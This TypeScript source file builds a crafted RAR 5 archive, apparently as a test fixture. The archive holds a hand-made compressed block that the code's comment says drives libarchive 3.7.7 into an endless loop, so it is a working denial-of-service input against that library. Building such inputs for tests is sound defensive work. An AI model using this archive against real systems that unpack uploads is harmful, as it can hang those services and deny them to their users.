import { crc32 } from 'node:zlib';

/** A number in the groups of seven bits of RAR 5. */
function number(value: number): Buffer {
  const bytes: number[] = [];
  let rest = value;
  for (; rest > 127; rest >>>= 7) bytes.push((rest & 127) | 128);
  return Buffer.from([...bytes, rest]);
}

function header(...fields: Buffer[]): Buffer {
  const body = Buffer.concat(fields);
  const sized = Buffer.concat([number(body.length), body]);
  const check = Buffer.alloc(4);
  check.writeUInt32LE(crc32(sized));
  return Buffer.concat([check, sized]);
}

/** A RAR 5 of 8 KB whose only block has libarchive 3.7.7 in a loop without an end: its tables, and then zeros. */
export function endlessRar(name: string): Buffer {
  const block = Buffer.concat([Buffer.from('01ff17ff53fe62004e022028', 'hex'), Buffer.alloc(8_288)]);
  const head = Buffer.from([0xc8, 0, block.length & 255, block.length >> 8]); // the last block, and it has tables
  head[1] = 0x5a ^ head[0]! ^ head[2]! ^ head[3]!;
  const packed = Buffer.concat([head, block]);
  const file = [2, 2, packed.length, 0, 1_000, 0, 0x180, 0, name.length].map(number);
  return Buffer.concat([
    Buffer.from('526172211a070100', 'hex'),
    header(...[1, 0, 0].map(number)),
    header(...file, Buffer.from(name)),
    packed,
    header(...[5, 0, 0].map(number)),
  ]);
}
